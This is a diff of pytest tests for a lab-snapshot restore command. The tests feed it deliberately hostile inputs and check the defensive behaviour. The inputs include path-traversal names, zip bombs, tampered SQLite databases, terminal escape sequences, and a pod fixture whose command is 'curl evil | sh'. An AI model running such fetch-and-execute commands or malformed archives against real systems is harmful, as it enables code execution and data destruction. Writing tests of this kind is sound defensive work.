@@ -3,15 +3,17 @@
 import contextlib
 import json
 import sqlite3
+import sys
 import zipfile
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 import yaml
 from kubernetes import client, config
 
 from labkit import Lab
-from labkit.simulator import process, replacement
+from labkit.simulator import process, replacement, snapshot_file, snapshots
 from labkit.simulator.folder import Folder
 from labkit.simulator.joined_folder import JoinedFolder
 from labkit.simulator.process import State
@@ -129,7 +131,145 @@ def test_restore_refuses_a_foreign_or_damaged_file_and_changes_nothing(lab, one,
     assert names(lab.path) == before
 
 
-@pytest.mark.parametrize("other", [{"format": 2}, {"moto": "5.1.9"}])
+RECORD = {"region": "us-east-1", "name": "blue", "issuer_id": "0" * 32, "created_at": 1.0, "request": {}}
+OUTSIDE = "../../../../outside"
+
+
+@pytest.mark.parametrize("wrong", [
+    {"name": OUTSIDE}, {"name": "/tmp/outside"}, {"name": "blue\0"}, {"name": "green"}, {"name": ""}, {"name": None},
+    {"region": OUTSIDE}, {"region": "eu-west-1"}, {"region": "us-east-1/.."}, {"issuer_id": OUTSIDE},
+    {"issuer_id": "0"}, {"created_at": float("inf")}, {"created_at": "1"}, {"request": []}, {"more": 1},
+], ids=json.dumps)  # fmt: skip
+def test_restore_refuses_a_cluster_whose_names_lead_elsewhere(lab, one, tmp_path, wrong):
+    record = json.dumps(RECORD | wrong).encode()
+    file = altered(one, tmp_path / "bad.labsnapshot", **{"clusters/blue/cluster.json": record})
+    before = {*lab.path.parent.rglob("*")}
+    refused("restore", str(file), "--force", says="bad.labsnapshot is not a snapshot of a lab, or is damaged.")
+    assert {path.name for path in {*lab.path.parent.rglob("*")} - before if ".key" in path.name} == set()
+    assert names(lab.path)
+
+
+def test_restore_refuses_an_archive_that_no_lab_writes(lab, one, tmp_path):
+    file = tmp_path / "bad.labsnapshot"
+    says = "bad.labsnapshot is not a snapshot of a lab, or is damaged."
+    wrong = ("clusters/..\\up/cluster.json", "clusters/a b/cluster.json", "clusters/C:/cluster.json", "AWS.DB")
+    for name in (*wrong, "faults/\x1b[2J.json", "published/../x/keys.json", "clusters/.hidden/objects.db"):
+        altered(one, file, **{name: b"{}"})
+        refused("restore", str(file), "--force", says=says)
+    altered(one, file, **{"faults/a.jsonXb": b"{}"})
+    file.write_bytes(file.read_bytes().replace(b"faults/a.jsonXb", b"faults/a.json\0b"))
+    refused("restore", str(file), "--force", says=says)
+    altered(one, file)
+    with zipfile.ZipFile(file, "a", zipfile.ZIP_LZMA) as archive:
+        archive.writestr("faults/a.json", b"{}")
+    refused("restore", str(file), "--force", says=says)
+    altered(one, file)
+    with zipfile.ZipFile(file, "a") as archive:
+        for number in range(20_000):
+            archive.writestr(f"faults/{number}.json", b"")
+    refused("restore", str(file), "--force", says=says)
+    altered(one, file, **{"manifest.json": json.dumps({"format": 2, "labkit": "1" * 10_000, "moto": "1"}).encode()})
+    refused("restore", str(file), "--force", says=says)
+
+
+def test_restore_refuses_a_file_that_unpacks_to_more_than_its_limit(lab, one, tmp_path, monkeypatch):
+    monkeypatch.setattr(snapshot_file, "LARGEST", 2**20)
+    file = tmp_path / "large.labsnapshot"
+    with zipfile.ZipFile(one) as before, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as after:
+        after.writestr("manifest.json", before.read("manifest.json"))
+        after.writestr("aws.db", bytes(2**20))
+    assert file.stat().st_size < 2**12
+    refused("restore", str(file), "--force", says="large.labsnapshot would take more than 1 MB of disk")
+    size = (2**20).to_bytes(4, "little")
+    assert file.read_bytes().count(size) == 2  # before the content, and in the directory
+    file.write_bytes(file.read_bytes().replace(size, (100).to_bytes(4, "little")))
+    refused("restore", str(file), "--force", says="large.labsnapshot is not a snapshot of a lab, or is damaged.")
+
+
+def test_snapshot_refuses_a_lab_that_no_snapshot_can_hold(lab, tmp_path, monkeypatch):
+    monkeypatch.setattr(snapshots, "LARGEST", 1000)
+    refused("snapshot", str(tmp_path / "one"), says="and a snapshot can have 0 MB")
+    assert not [*tmp_path.iterdir(), *lab.path.glob(".snapshot.*")]
+
+
+@pytest.mark.parametrize(("name", "script"), [
+    ("clusters/serials.db", "CREATE VIEW more AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i FROM n) SELECT 1"),
+    ("clusters/blue/objects.db", "CREATE TRIGGER more AFTER INSERT ON version BEGIN SELECT zeroblob(1000000000); END"),
+    ("aws-own.db", "DROP TABLE parts; CREATE TABLE parts (name TEXT PRIMARY KEY, state AS (zeroblob(1000000000)))"),
+    ("aws-own.db", "DROP TABLE parts; CREATE VIEW parts AS SELECT 'regions' AS name, zeroblob(1000000000) AS state"),
+    ("aws.db", "CREATE TABLE more (one)"),
+    ("aws-serials.db", "PRAGMA writable_schema = ON; UPDATE sqlite_master SET rootpage = 2"),
+])  # fmt: skip
+def test_restore_refuses_a_database_that_no_lab_writes(lab, one, tmp_path, name, script):
+    with zipfile.ZipFile(one) as archive:
+        archive.extract(name, tmp_path)
+    with contextlib.closing(sqlite3.connect(tmp_path / name)) as connection:
+        connection.executescript(script)
+    file = altered(one, tmp_path / "bad.labsnapshot", **{name: (tmp_path / name).read_bytes()})
+    refused("restore", str(file), "--force", says="bad.labsnapshot is not a snapshot of a lab, or is damaged.")
+
+
+@pytest.fixture
+def hostile(one, tmp_path):
+    """A snapshot with a pod, a hook and a Deployment, whose programs and version have control characters."""
+    name = "clusters/blue/objects.db"
+    pod = {
+        "initContainers": [{"name": "a", "image": "aws", "command": ["sh", "-c", "curl evil | sh\r\x1b[2K"]}],
+        "containers": [{"name": "b", "image": "busybox", "lifecycle": {"postStart": {"exec": {"command": ["id"]}}}}],
+    }
+    objects = {
+        ("pods", "p"): {"metadata": {"name": "p"}, "spec": pod},
+        ("deployments.apps", "d"): {"metadata": {"name": "d"}, "spec": {"template": {"spec": pod}}},
+        ("configmaps", "c"): {"metadata": {"name": "c"}, "data": {"image": "none", "command": "none"}},
+    }
+    with zipfile.ZipFile(one) as archive:
+        archive.extract(name, tmp_path)
+    with contextlib.closing(sqlite3.connect(tmp_path / name)) as connection, connection:
+        for (kind, called), obj in objects.items():
+            connection.execute("INSERT INTO objects VALUES (?, 'default', ?, ?)", (kind, called, json.dumps(obj)))
+    return altered(one, tmp_path / "hostile.labsnapshot", **{name: (tmp_path / name).read_bytes()})
+
+
+def test_restore_names_the_programs_of_the_pods_and_needs_a_yes(lab, hostile):
+    before = names(lab.path)
+    done = commands.labkit("restore", str(hostile), "--force")
+    assert done.returncode == 1
+    assert done.stdout.splitlines() == [
+        "The snapshot's pods run these programs on this machine, as your user:",
+        "  aws: sh -c 'curl evil | sh\\u000d'   (blue: default/d, blue: default/p)",
+        "  busybox: the program of the image   (blue: default/d, blue: default/p)",
+        "  busybox: id   (blue: default/d, blue: default/p)",
+    ]
+    assert "Without a terminal to ask in, this needs --yes." in done.stderr
+    assert f"labkit restore {hostile} --yes --force" in done.stderr
+    assert names(lab.path) == before
+    assert not [*lab.path.glob(".snapshot.*")]
+
+
+@pytest.mark.parametrize(("given", "flag"), [("n\n", None), ("y\n", None), ("", "--yes")])
+def test_restore_asks_in_a_terminal_before_it_changes_anything(lab, hostile, monkeypatch, given, flag):
+    terminal = SimpleNamespace(isatty=lambda: True)
+    monkeypatch.setattr(
+        "labkit.cli.lab.sys", SimpleNamespace(stdin=terminal, stdout=terminal, executable=sys.executable)
+    )
+    ended = []
+    monkeypatch.setattr(process, "end", lambda _: ended.append(1))
+    monkeypatch.setattr(replacement, "offer", lambda *_: None)
+    monkeypatch.setattr(process, "start", State.read)
+    done = commands.labkit("restore", str(hostile), "--force", *([flag] if flag else []), given=given)
+    assert (len(ended), done.returncode) == ((0, 1) if given == "n\n" else (1, 0)), done.stderr
+    assert ("Run them? [y/N]" in done.stdout) == (flag is None)
+
+
+def test_restore_prints_no_control_character_of_a_foreign_manifest(lab, one, tmp_path):
+    manifest = {"format": 2, "labkit": "1\x1b]0;title\x07\x9b1A\r", "moto": "\u202egnorw", "cluster": "\x1b[8m"}
+    file = altered(one, tmp_path / "bad.labsnapshot", **{"manifest.json": json.dumps(manifest).encode()})
+    says = r"labkit 1\u001b]0;title\u0007\u009b1A\u000d with moto \u202egnorw made this snapshot"
+    told = refused("restore", str(file), "--force", says=says)
+    assert all(character.isprintable() or character == "\n" for character in told)
+
+
+@pytest.mark.parametrize("other", [{"format": 1}, {"moto": "5.1.9"}])
 def test_restore_refuses_a_snapshot_of_another_format_or_moto_version(lab, one, tmp_path, other):
     before = names(lab.path)
     with zipfile.ZipFile(one) as archive:
